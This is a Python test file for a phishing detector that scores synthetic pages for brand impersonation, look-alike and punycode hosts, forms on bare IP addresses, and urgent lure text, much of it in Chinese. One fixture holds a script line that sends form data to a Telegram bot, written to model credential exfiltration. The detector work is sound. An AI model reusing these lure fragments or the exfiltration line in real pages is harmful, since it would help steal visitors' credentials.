import pytest

from app.domain.violations import ViolationKey
from app.engines.analyse.structure.impersonation import Impersonation

PASSWORD = "<form><input name=user><input type=password name=pw></form>"
CARD = "<form><input placeholder='银行卡号'><input name=cvv><input type=password></form>"


@pytest.fixture(scope="module")
def rules(brands):
    return Impersonation(brands)


def scores(rules, subject):
    signals = list(rules.examine(subject))
    assert all(signal.key is ViolationKey.FRAUD for signal in signals)
    return {signal.evidence.rule: signal.evidence.score for signal in signals}


@pytest.mark.parametrize(
    ("title", "form"),
    [
        ("PayPal: Log in to your account", PASSWORD),
        ("招商银行信用卡 - 积分兑换", CARD),
        ("登录 | 中国工商银行个人网上银行", PASSWORD),
        ("Apple ID", PASSWORD),
        ("Sign in to your Microsoft account", PASSWORD),
        ("MetaMask Wallet", PASSWORD),
    ],
)
def test_a_page_that_calls_itself_a_brand_and_asks_for_secrets_elsewhere(rules, make_subject, title, form):
    assert scores(rules, make_subject(title=title, html=form))["brand_impersonation"] >= 0.8


def test_a_brand_in_the_heading_counts_like_one_in_the_title(rules, make_subject):
    subject = make_subject(title="Welcome", html=f"<h1>PayPal</h1>{PASSWORD}")
    assert scores(rules, subject)["brand_impersonation"] >= 0.8


def test_payment_services_in_the_headings_of_a_shop_are_not_its_name(rules, make_subject):
    html = f"<h1>Checkout</h1><h2>PayPal</h2><h2>Visa</h2>{CARD}"
    assert scores(rules, make_subject(title="Bookworm & Sons", html=html)) == {}


def test_a_brand_beside_other_words_needs_a_review_when_card_data_is_asked(rules, make_subject):
    score = scores(rules, make_subject(title="中国邮政包裹异常补缴运费", html=CARD))["brand_impersonation"]
    assert 0.5 <= score < 0.8


@pytest.mark.parametrize(
    ("title", "html", "url"),
    [
        ("PayPal: Log in", PASSWORD, "https://www.paypal.com/signin"),
        ("PayPal", "<p>About the company</p>", "https://www.party.example/"),
        ("How PayPal works for small shops: a guide", PASSWORD, "https://www.party.example/"),
        ("Log in with Google - Recipe Box", PASSWORD, "https://www.party.example/"),
        ("微信登录 - 花艺论坛", PASSWORD, "https://www.party.example/"),
        ("Flower forum", PASSWORD, "https://www.party.example/"),
        ("Pay with Visa - PayPal", PASSWORD, "https://www.paypal.com/"),
        ("Search", "<form><input type=search name=q></form>", "https://www.party.example/"),
    ],
)
def test_own_pages_mentions_and_sign_in_buttons_stay_clean(rules, make_subject, title, html, url):
    found = scores(rules, make_subject(title=title, html=html, url=url))
    assert all(score < 0.5 for score in found.values())


BARE = "http://192.0.2.7/login"


def test_a_form_for_cards_or_under_pressure_on_a_bare_address_needs_a_review(rules, make_subject):
    assert scores(rules, make_subject(html=CARD, url=BARE))["ip_host_form"] >= 0.5
    pressed = make_subject("您的邮箱即将停用，请立即升级", html=PASSWORD, url=BARE)
    assert scores(rules, pressed)["ip_host_form"] >= 0.5


def test_the_login_of_an_organisation_on_a_bare_address_stays_clean(rules, make_subject):
    subject = make_subject("忘记密码请到信息中心办理", title="第一中学教务系统", html=PASSWORD, url=BARE)
    assert scores(rules, subject)["ip_host_form"] < 0.5
    assert scores(rules, make_subject(html="<p>Welcome</p>", url="http://192.0.2.7/")) == {}


PHONE = "<form><input name=shouji placeholder=手机号><input name=yzm></form>"
PRESSING = "您的账户已被冻结，请在24小时内完成认证"
BANK = "中国建设银行股份有限公司 版权所有 客户服务热线"


@pytest.mark.parametrize(
    ("text", "title", "html", "rule"),
    [
        (PRESSING, "微信安全中心", PHONE, "brand_account"),
        (PRESSING, "顺丰速运 快件异常", PHONE, "brand_account"),
        ("", "Netflix", "<input type=email name=e>", "brand_account"),
        ("请扫一扫完成付款", "支付宝收银台", "<img src=a.png alt=付款二维码>", "brand_account"),
        (f"积分即将清零 {BANK}", "积分兑换", PHONE, "brand_account"),
        (f"积分即将清零 {BANK}", "积分兑换", "<input name=kahao><input name=qkmm>", "brand_imprint"),
        (PRESSING, "ETC在线认证系统", "<a href=1.html>立即认证</a>", "brand_first_step"),
        (f"{PRESSING} {BANK}", "手机网银", "<a href=1.html>下一步</a>", "brand_first_step"),
        (PRESSING, "手机网银", "<img src=a.png alt='中国银行 BANK OF CHINA'>", "brand_first_step"),
    ],
)
def test_a_brand_that_asks_for_an_account_or_presses_to_go_on(rules, make_subject, text, title, html, rule):
    assert scores(rules, make_subject(text, title=title, html=html))[rule] >= 0.5


def test_a_brand_on_a_bare_address_needs_no_fields(rules, make_subject):
    assert scores(rules, make_subject("欢迎", title="招商银行", url=BARE))["brand_first_step"] >= 0.5
    assert scores(rules, make_subject("欢迎", title="招商银行")) == {}


@pytest.mark.parametrize(
    ("text", "title", "html"),
    [
        ("与小米公司无隶属关系，第三方维修网站", "小米账号解锁", PHONE),
        ("警方提醒：短信称账户已被冻结的都是诈骗", "建设银行", PHONE),
        ("为您提供支付宝、微信支付。版权所有 沐山茶业", "确认订单", PHONE),
        ("本店支持中国银联。客服热线：0000", "确认订单", PHONE),
        ("欢迎投递简历", "招商银行临河分行校园招聘 - 澜木人才网", PHONE),
        ("登录后发表评论", "登录", f"<img alt=微信><img alt=QQ邮箱>{PHONE}"),
        ("应付金额", "收银台", f"<img alt=支付宝><img alt=云闪付>{PHONE}"),
        (PRESSING, "How the account of a bank was suspended: PayPal answers", "<p></p>"),
        ("DHL parcels, opening hours", "DHL ServicePoint at Harbour Parcels: opening hours", "<input type=email>"),
    ],
)
def test_shops_partners_and_warnings_stay_clean(rules, make_subject, text, title, html):
    found = scores(rules, make_subject(text, title=title, html=html))
    assert all(score < 0.5 for score in found.values()), found


def test_a_look_alike_host_is_worse_with_a_form(rules, make_subject):
    url = "https://paypa1.com/"
    alone = scores(rules, make_subject(html="<p>Hello</p>", url=url))["look_alike_host.homograph"]
    asking = scores(rules, make_subject(html=PASSWORD, url=url))["look_alike_host.homograph"]
    assert alone < 0.5 <= asking


def test_mixed_scripts_in_the_host_are_noted(rules, make_subject):
    found = scores(rules, make_subject(html=PASSWORD, url="https://xn--pypal-4ve.com/"))
    assert found["mixed_script_host"] >= 0.5


def test_secrets_sent_to_a_chat_bot_are_a_finding(rules, make_subject):
    script = "<script>fetch('https://api.telegram.org/bot123:abc/sendMessage')</script>"
    assert scores(rules, make_subject(html=PASSWORD + script))["credential_exfiltration"] >= 0.8
    assert scores(rules, make_subject(html="<p>Our bot</p>" + script)) == {}


def test_the_evidence_names_brand_list_and_title(rules, make_subject):
    (signal,) = rules.examine(make_subject(title="PayPal", html=PASSWORD))
    assert signal.evidence.terms == ("PayPal",)
    assert signal.evidence.snippet == "PayPal"
    assert signal.evidence.provenance.startswith("brands 2")


KEYS = "<input name=kahao><input placeholder=身份证号><input name=qkmm><input name=yzm>"


def test_all_the_keys_to_an_account_under_pressure_need_no_brand(rules, make_subject):
    pressed = make_subject("积分即将过期，请在24小时内兑换", title="澄银行积分兑换中心", html=KEYS)
    assert scores(rules, pressed)["identity_form"] >= 0.5
    assert scores(rules, make_subject("开通网上银行", title="澄银行", html=KEYS)) == {}
    few = make_subject("积分即将过期，请在24小时内兑换", title="澄银行", html="<input name=kahao><input name=yzm>")
    assert scores(rules, few) == {}


def test_whose_card_it_is_knows_its_balance(rules, make_subject):
    text = "您的通行卡现已停用，须于今日完成在线认证，逾期将无法通行。"
    html = "<input placeholder=身份证号><input placeholder=银行卡号>"
    asked = make_subject(text, html=f"{html}<input placeholder=卡内余额（用于核验）>")
    assert scores(rules, asked)["identity_form"] >= 0.5
    assert scores(rules, make_subject(text, html=f"{html}<input placeholder=车牌号码>")) == {}
    assert scores(rules, make_subject("开户登记", html=f"{html}<input placeholder=余额>")) == {}


def test_a_brands_centre_that_unlocks_accounts_is_an_imitation(rules, make_subject):
    html = "<input type=password placeholder=登录密码>"
    assert scores(rules, make_subject(title="微信安全中心 - 账号解封", html=html))["brand_impersonation"] >= 0.8
    assert scores(rules, make_subject(title="使用微信登录 - 城南论坛", html=html)) == {}


def test_software_that_organisations_run_themselves_is_no_brand_unless_it_presses(rules, make_subject):
    title = "Roundcube Webmail :: Welcome"
    assert scores(rules, make_subject(title=title, html=PASSWORD))["brand_impersonation"] < 0.5
    pressed = make_subject("Your mailbox will be suspended within 24 hours", title=title, html=PASSWORD)
    assert scores(rules, pressed)["brand_impersonation"] >= 0.5
    assert scores(rules, make_subject(title=title, html=PHONE, url=BARE)) == {}


def test_help_with_accounts_that_takes_comments_is_no_imitation(rules, make_subject):
    comment = "<input name=email><textarea name=comment></textarea>"
    asked = make_subject("怎样申诉？先准备好资料。", title="微信解封申诉", html=comment)
    assert all(score < 0.5 for score in scores(rules, asked).values())
    pressed = make_subject("您的账号已被冻结，请立即认证。", title="微信解封申诉", html="<input name=phone>")
    assert scores(rules, pressed)["brand_account"] >= 0.5


BANK_PASSWORD = "<form><p>网银登录密码 <input type=password name=a></p></form>"


def test_nobody_but_a_bank_asks_for_the_password_of_a_bank(rules, make_subject):
    subject = make_subject("年审公示系统", title="电子营业执照年审", html=BANK_PASSWORD)
    assert scores(rules, subject)["bank_password"] >= 0.5


def test_a_bank_of_the_country_that_no_book_names_may_ask(rules, make_subject):
    assert scores(rules, make_subject("登录", title="澜江农商银行", html=BANK_PASSWORD)) == {}
